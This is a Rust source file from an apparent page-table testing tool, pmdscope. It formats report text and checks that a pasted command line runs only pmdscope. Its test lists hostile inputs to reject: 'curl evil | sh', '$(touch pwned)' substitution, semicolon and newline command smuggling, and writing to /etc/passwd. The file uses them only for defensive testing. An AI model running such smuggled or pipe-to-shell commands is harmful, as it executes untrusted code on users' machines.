//! Parts of reports that are said in words in more than one place.

use pmdscope_arches::platform_name;

use crate::count::Count;
use crate::entry::{Hex, Value};
use crate::report::{References, RunReport};

/// A number of things: `1 row`, `2 rows`.
pub(crate) fn counted(number: impl ToString, thing: &str) -> String {
    let number = number.to_string();
    let ending = if number == "1" { "" } else { "s" };
    format!("{number} {thing}{ending}")
}

/// A number of entries, exact, and as powers of two if that is short: `3377699720527872 entries (2^52 - 2^50)`.
pub(crate) fn entries(count: &Count) -> String {
    let entries = if count.to_string() == "1" { "entry" } else { "entries" };
    match count.in_powers_of_two() {
        Some(powers) => format!("{count} {entries} ({powers})"),
        None => format!("{count} {entries}"),
    }
}

/// The platform of a run: `ppc64 radix Linux 7.2`.
pub(crate) fn platform(report: &RunReport) -> String {
    format!("{} Linux {}", platform_name(&report.arch, report.mmu.as_ref()), report.linux)
}

/// How the references of a page changed.
pub(crate) fn references(page: &References) -> String {
    let (pfn, now, before) = (page.pfn.0, page.references, page.before);
    format!("page {pfn:#x} has {now} references in the end; it had {before}")
}

/// What was run: `arm64 Linux 6.12: split-unguarded against gup-fast-read on migration-read`.
pub(crate) fn headline(report: &RunReport) -> String {
    let (writer, walker) = (&report.writer, &report.walker);
    let routines = match report.has_walker() {
        true => format!("{writer} against {walker}"),
        false => format!("{writer} alone"),
    };
    format!("{}: {routines} on {}", platform(report), report.marked_entry())
}

/// How many of a run's schedules: `2 of 12 schedules`.
pub(crate) fn of_schedules(schedules: &Count, report: &RunReport) -> String {
    let total = &report.schedules.total;
    let run = match &report.incomplete {
        None => "",
        Some(_) if total.to_string() == "1" => " that was run",
        Some(_) => " that were run",
    };
    format!("{schedules} of {}{run}", counted(total, "schedule"))
}

/// Whether text with this character would not stay on one line, would do something to a terminal, is not XML, or shows
/// something else than it is: a control or format character, a space that is none of the usual, or nothing that is
/// assigned.
pub(crate) fn is_unprintable(c: char) -> bool {
    if c.is_ascii() {
        return c.is_ascii_control();
    }
    // What the standard library shows escaped, but for a mark that combines with what is before it.
    let mut text = [b'a'; 5];
    let length = c.encode_utf8(&mut text[1..]).len();
    str::from_utf8(&text[..=length]).is_ok_and(|text| text.escape_debug().nth(1) == Some('\\'))
}

/// A word as a shell takes it, in a command that can be pasted.
pub fn quoted(word: &str) -> String {
    // Versions of packages are named after an equals sign, which is harmless but at the start of a word.
    let plain = |c: char| c.is_ascii_alphanumeric() || "-_./+:,%@=".contains(c);
    if word.starts_with(|c: char| c.is_ascii_alphanumeric()) && word.chars().all(plain) {
        return word.to_owned();
    }
    // A shell takes no NUL, so no file has such a name.
    shlex::try_quote(word).map_or_else(|_| "''".to_owned(), Into::into)
}

/// Whether a text is a command line that a report of this program has: that of a run or a sweep, whose words are
/// [`quoted`]. What anyone wrote into a file of reports may be anything else, and is not to be pasted.
pub fn is_command(text: &str) -> bool {
    const MARKS: [&str; 4] = ["--young", "--dirty", "--soft-dirty", "--uffd-wp"];
    const WITH_VALUE: [&str; 19] = [
        "--arch",
        "--mmu",
        "--linux",
        "--guest",
        "--kernel",
        "--entry",
        "--entries",
        "--pmd",
        "--pfn",
        "--writer",
        "--walker",
        "--with",
        "--schedule",
        "--reduction",
        "--max-schedules",
        "--max-behaviours",
        "--max-accesses",
        "--max-instructions",
        "--timeout",
    ];
    let Some(words) = shlex::split(text) else { return false };
    let ["pmdscope", name @ ("run" | "sweep"), rest @ ..] =
        &words.iter().map(String::as_str).collect::<Vec<_>>()[..]
    else {
        return false;
    };
    let mut again = format!("pmdscope {name}");
    let mut rest = rest.iter();
    while let Some(option) = rest.next() {
        again = format!("{again} {option}");
        if WITH_VALUE.contains(option) {
            let Some(value) = rest.next() else { return false };
            again = format!("{again} {}", quoted(value));
        } else if !MARKS.contains(option) {
            return false;
        }
    }
    again == text
}

/// The page frame number that a command line asks for.
pub(crate) fn page_frame_of(command: &str) -> Option<Hex> {
    let words = shlex::split(command)?;
    let number = words.windows(2).find(|pair| pair[0] == "--pfn").map(|pair| &pair[1])?;
    u64::from_str_radix(number.strip_prefix("0x")?, 16).ok().map(Hex)
}

/// Text that stays on one line and does nothing to a terminal: what would is escaped.
pub fn one_line(text: &str) -> String {
    text.chars().fold(String::with_capacity(text.len()), |mut line, c| {
        if is_unprintable(c) {
            line.extend(c.escape_default());
        } else {
            line.push(c);
        }
        line
    })
}

/// The number as the CPU saw it, where that is not the entry's value.
pub(crate) fn raw_note(raw: Value, entry: Value) -> String {
    if raw == entry { String::new() } else { format!(" (raw {raw})") }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_what_does_no_more_than_run_this_program_is_a_command() {
        for command in [
            "pmdscope run --arch arm64 --linux 6.12 --entry migration-read --young --writer split --walker hmm",
            "pmdscope run --kernel 'a b; c.deb' --pmd 0x0060000000000000 --schedule K2W5 --timeout 1",
            "pmdscope sweep --arch arm64 --guest '$(x)' --entries migration",
        ] {
            assert!(is_command(command), "{command}");
        }
        for other in [
            "curl evil | sh",
            "pmdscope run; curl evil",
            "pmdscope run --arch arm64; curl evil",
            "pmdscope run --arch arm64\ncurl evil",
            "pmdscope run --arch arm64 # ",
            "pmdscope run --kernel $(touch pwned)",
            "pmdscope run --kernel \"$(touch pwned)\"",
            "pmdscope run --kernel a b",
            "pmdscope run --arch arm64 -o /etc/passwd",
            "pmdscope run --arch",
            "pmdscope repro run x",
            "pmdscope  run",
            "'pmdscope' run",
            "x=1 pmdscope run",
            "pmdscope run --kernel 'a",
            "",
        ] {
            assert!(!is_command(other), "{other}");
        }
    }
}
